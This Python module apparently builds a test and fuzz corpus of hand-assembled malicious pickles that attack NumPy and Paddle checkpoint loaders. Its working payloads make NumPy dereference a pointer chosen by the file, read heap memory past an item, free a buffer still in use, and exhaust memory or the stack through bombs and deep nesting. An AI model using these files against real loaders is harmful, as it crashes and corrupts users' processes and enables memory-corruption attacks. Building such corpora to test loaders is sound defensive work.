"""Hand-assembled pickles that attack a loader through what NumPy rebuilds from a file.

Each builder returns the bytes of one file. Unpickled by ``pickle``/``paddle.load`` (or
by an unpickler that admits NumPy's reconstructors) they crash the process at an
address of the file's choosing, read or free memory they do not own, or allocate
gigabytes from a few hundred bytes; ``HOSTILE`` names them for the tests and the fuzz
corpus.
"""

import struct

PROTO = b"\x80\x04"
MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NONE, FALSE, TRUE = b"R", b"b", b"N", b"\x89", b"\x88"
EMPTY_LIST, EMPTY_DICT, EMPTY_TUPLE = b"]", b"}", b")"
APPEND, SETITEM, SETITEMS, MEMOIZE = b"a", b"s", b"u", b"\x94"
MULTIARRAY = "numpy._core.multiarray"


def text(value: str) -> bytes:
    data = value.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -2**31 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def get(index: int) -> bytes:
    return b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)


def dtype(code: str, byteorder: str = "|", names=NONE, fields=NONE, elsize: int = -1,
          alignment: int = -1, flags: int = 0) -> bytes:
    """``numpy.dtype(code, False, True)`` with its BUILD state."""
    return (name("numpy", "dtype") + text(code) + FALSE + TRUE + TUPLE3 + REDUCE
            + MARK + integer(3) + text(byteorder) + NONE + names + fields + integer(elsize)
            + integer(alignment) + integer(flags) + TUPLE + BUILD)


def array(shape: tuple, dtype_ops: bytes, data: bytes) -> bytes:
    """``_reconstruct(ndarray, (0,), b"b")`` and BUILD (1, shape, dtype, False, data)."""
    return (name(MULTIARRAY, "_reconstruct") + name("numpy", "ndarray") + integer(0) + TUPLE1
            + raw(b"b") + TUPLE3 + REDUCE + MARK + integer(1)
            + MARK + b"".join(integer(n) for n in shape) + TUPLE
            + dtype_ops + FALSE + data + TUPLE + BUILD)


def state_dict(*items: bytes) -> bytes:
    """A pickle of ``{key: value, ...}``: ``items`` alternate keys' and values' opcodes."""
    return PROTO + EMPTY_DICT + MARK + b"".join(items) + SETITEMS + STOP


def object_scalar() -> bytes:
    # An object dtype whose flags word is 0: NumPy takes the 8 data bytes as a pointer.
    pointer = struct.pack("<Q", 0x4141414141414141)
    scalar = (name(MULTIARRAY, "scalar") + dtype("O8", flags=0) + raw(pointer) + TUPLE2
              + REDUCE)
    return state_dict(text("conv1.weight"), scalar)


def object_array_0d() -> bytes:
    pointer = struct.pack("<Q", 0x4141414141414141)
    return state_dict(text("epoch"), array((), dtype("O8", flags=0), raw(pointer)))


def struct_field_past_item() -> bytes:
    # A 1-byte void item with a float64 field at offset 4096: reading it reads the heap.
    fields = (EMPTY_DICT + text("f") + name("numpy", "dtype") + text("f8") + FALSE + TRUE
              + TUPLE3 + REDUCE + integer(4096) + TUPLE2 + SETITEM)
    ops = dtype("V1", names=text("f") + TUPLE1, fields=fields, elsize=1, alignment=1,
                flags=16)
    return state_dict(text("w"), array((4,), ops, raw(b"\0" * 4)))


def second_build() -> bytes:
    # BUILD again on an array another value already views: NumPy frees the first buffer.
    first = array((4,), dtype("u1"), raw(b"\1" * 4))
    again = MARK + integer(1) + MARK + integer(2) + TUPLE + dtype("u1") + FALSE \
        + raw(b"\2\2") + TUPLE + BUILD
    return state_dict(text("w"), first + again)


def memo_dag(depth: int = 60) -> bytes:
    # Each tuple holds the one before twice: 434 bytes that unfold into 2**60 leaves.
    body = NONE + MEMOIZE
    for level in range(depth):
        body += get(level) + get(level) + TUPLE2 + MEMOIZE
    return PROTO + body + STOP


def zero_stride_ndarray(gigabytes: int = 1) -> bytes:
    # numpy.ndarray(shape, 'u1', buffer=b'x', offset=0, strides=(0,)): one byte seen as 1 GB.
    call = (name("numpy", "ndarray") + MARK + integer(gigabytes << 30) + TUPLE1 + text("u1")
            + raw(b"x") + integer(0) + integer(0) + TUPLE1 + TUPLE + REDUCE)
    return PROTO + call + STOP


def split_zero_stride_slices() -> bytes:
    slices = []
    for i in range(3):
        slices += [text(f"w@@.{i}"), zero_stride_ndarray()[2:-1]]
    info = (text("UnpackBigParamInfor@@") + EMPTY_DICT + text("w") + EMPTY_DICT
            + text("OriginShape") + integer(3 << 30) + TUPLE1 + SETITEM
            + text("slices") + EMPTY_LIST + MARK + text("w@@.0") + text("w@@.1")
            + text("w@@.2") + b"e" + SETITEM + SETITEM)
    return state_dict(*slices, info)


def huge_object_array() -> bytes:
    # 3 x 2**27 object pointers: NumPy allocates 3 GB before it looks at the data.
    return state_dict(text("w"), array((3, 1 << 27), dtype("O8", flags=63),
                                       EMPTY_LIST))


def huge_void_scalars() -> bytes:
    scalars = b"".join(text(f"s{i}") + name(MULTIARRAY, "scalar")
                       + dtype("V2147483647", elsize=2147483647) + raw(b"x") + TUPLE2
                       + REDUCE for i in range(4))
    return state_dict(scalars)


def short_data_big_shape() -> bytes:
    # A plain dtype whose shape claims 4 GB against 4 bytes of data.
    return state_dict(text("w"), array((1 << 30,), dtype("f4", "<"), raw(b"\0" * 4)))


def deep_lists(depth: int = 100_000) -> bytes:
    return PROTO + EMPTY_LIST * depth + APPEND * (depth - 1) + STOP


def deep_tuples(depth: int = 100_000) -> bytes:
    return PROTO + EMPTY_LIST + TUPLE1 * depth + STOP


def self_referencing_list() -> bytes:
    return PROTO + EMPTY_LIST + MEMOIZE + get(0) + APPEND + STOP


def dup_cycle() -> bytes:
    # DUP then APPEND: a list that holds itself, without the memo.
    return PROTO + EMPTY_LIST + b"2" + APPEND + STOP


def reused_data_for_many_arrays(count: int = 200) -> bytes:
    # One 64 KiB bytes object behind 200 arrays: 12.5 MB of arrays from 64 KiB of file.
    first = text("w0") + array((1 << 16,), dtype("u1"), raw(b"\0" * (1 << 16)) + MEMOIZE)
    data_index = 0  # the first MEMOIZE: the one after the data
    rest = b"".join(text(f"w{i}") + array((1 << 16,), dtype("u1"), get(data_index))
                    for i in range(1, count))
    return state_dict(first, rest)


def shared_bytes_value(count: int = 50) -> bytes:
    # One 100 kB bytes value referenced 50 times: 5 MB of bytes copies from 100 kB.
    return (PROTO + EMPTY_LIST + MARK + raw(b"x" * 100_000) + MEMOIZE + get(0) * count
            + b"e" + STOP)


def repeated_text_to_bytes(count: int = 50) -> bytes:
    # _codecs.encode of one 100 kB text, 50 times over, left on the stack.
    calls = b"".join(get(0) + get(1) + TUPLE1 + REDUCE for _ in range(count))
    return (PROTO + name("_codecs", "encode") + MEMOIZE + text("y" * 100_000) + MEMOIZE
            + b"0" + calls + STOP)


HOSTILE = {
    "object scalar (pointer from the file)": object_scalar,
    "0-d object array": object_array_0d,
    "struct field past its item": struct_field_past_item,
    "second BUILD on an array": second_build,
    "memo DAG of shared tuples": memo_dag,
    "zero-stride ndarray claiming 1 GB": zero_stride_ndarray,
    "split tensor of zero-stride slices": split_zero_stride_slices,
    "3 x 2**27 object array": huge_object_array,
    "scalars of dtype V2147483647": huge_void_scalars,
    "4 bytes of data for a 4 GB shape": short_data_big_shape,
    "100,000-deep nested lists": deep_lists,
    "100,000-deep nested tuples": deep_tuples,
    "self-referencing list": self_referencing_list,
    "DUP cycle": dup_cycle,
    "one bytes object behind 200 arrays": reused_data_for_many_arrays,
    "one bytes value referenced 50 times": shared_bytes_value,
    "one text made into bytes 50 times": repeated_text_to_bytes,
}
